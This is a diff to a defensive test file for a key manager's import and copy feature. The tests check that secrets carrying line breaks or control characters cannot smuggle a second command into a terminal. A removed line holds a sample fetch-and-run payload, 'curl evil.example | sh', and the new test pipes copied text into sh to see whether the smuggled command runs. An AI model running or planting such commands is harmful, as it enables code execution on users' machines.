@@ -1,5 +1,6 @@
 /** A file that somebody gives a person to import: it sends no key astray, runs nothing in a terminal, hides nothing, buries nothing. */
 
+import { spawnSync } from 'node:child_process'
 import * as v from 'valibot'
 import { describe, expect, test } from 'vitest'
 import { format } from '../../src/features/copy/core/formats.ts'
@@ -132,8 +133,15 @@ describe('a key is sent to a provider that is not its own', () => {
 test('a secret with a line break is not kept as it is, and is copied in no form', () => {
   const random = seeded('breaks')
   const breaks = ['\n', '\r', '\r\n', '\u2028', '\u0000', '\u001b[2J', '\u202e', '\u200b', '\t', ' ']
-  const secrets = breaks.map(one => `${make('OpenAI project', random)}${one}curl evil.example | sh`)
-  const lands = (secret: string) => /[^\x21-\x7e]/.test(secret) && format('bare', 'KEY', secret).ok
+  const secrets = breaks.map(one => `${make('OpenAI project', random)}${one}echo landed`)
+  const isPlain = (secret: string) => /^[\x21-\x7e]+$/.test(secret)
+  /** Pasted into a terminal: does the second half run? */
+  const runs = (text: string) =>
+    spawnSync('sh', { input: `${text}\n`, encoding: 'utf8' }).stdout.split('\n').includes('landed')
+  const copied = (secret: string) => {
+    const text = format('bare', 'KEY', secret)
+    return text.ok ? text.text : ''
+  }
   const kept = secrets.flatMap(secret =>
     imported(backup({ provider: 'openai', label: 'x', secret })).map(record => record.secret),
   )
@@ -142,11 +150,12 @@ test('a secret with a line break is not kept as it is, and is copied in no form'
     attacker: 'imported file',
     asset: 'the terminal it is pasted into',
     tries: secrets.length,
-    landed: kept.filter(secret => /[^\x21-\x7e]/.test(secret)).length,
+    landed: [...kept, ...secrets].map(copied).filter(runs).length,
     // As it lies in the file.
-    control: { tries: secrets.length, landed: secrets.filter(secret => /[^\x21-\x7e]/.test(secret)).length },
+    control: { tries: secrets.length, landed: secrets.filter(runs).length },
   })
-  expect(secrets.filter(secret => /\p{Cc}/u.test(secret) && lands(secret))).toEqual([])
+  expect(kept.filter(secret => !isPlain(secret))).toEqual([])
+  expect(secrets.filter(secret => /\p{Cc}/u.test(secret) && copied(secret) !== '')).toEqual([])
 })
 
 test('a name that turns around, hides or breaks what a list shows is kept plain', () => {
@@ -212,16 +221,18 @@ test('a flood is cut, and said to be', () => {
     { length: 24_900 },
     (_, i) => `K${i}_KEY=sk-${i}${'a1B2c3D4e5'}${Math.floor(random() * 1e9)}x9Y8z7W6`,
   )
-  const { candidates, problems } = previewText(lines.join('\n'))
+  const isCut = (given: string[]) => {
+    const { candidates, problems } = previewText(given.join('\n'))
+    return candidates.length === 5000 && problems.some(problem => /5000 keys at a time/.test(problem))
+  }
   report({
     attack: 'more keys in a file than one import takes',
     attacker: 'imported file',
     asset: 'the list a person checks',
     tries: 1,
-    landed: Number(
-      candidates.length > 5000 || !problems.some(problem => /5000 keys at a time/.test(problem)),
-    ),
-    control: { tries: 1, landed: Number(lines.length > 5000) },
+    landed: Number(!isCut(lines)),
+    // As many as an import takes: all of them are listed.
+    control: { tries: 1, landed: Number(!isCut(lines.slice(0, 5000))) },
   })
   const noise = previewText(Array.from({ length: 24_900 }, (_, i) => `KEY_${i}=hello there`).join('\n'))
   expect(noise.problems.length).toBeLessThanOrEqual(201)
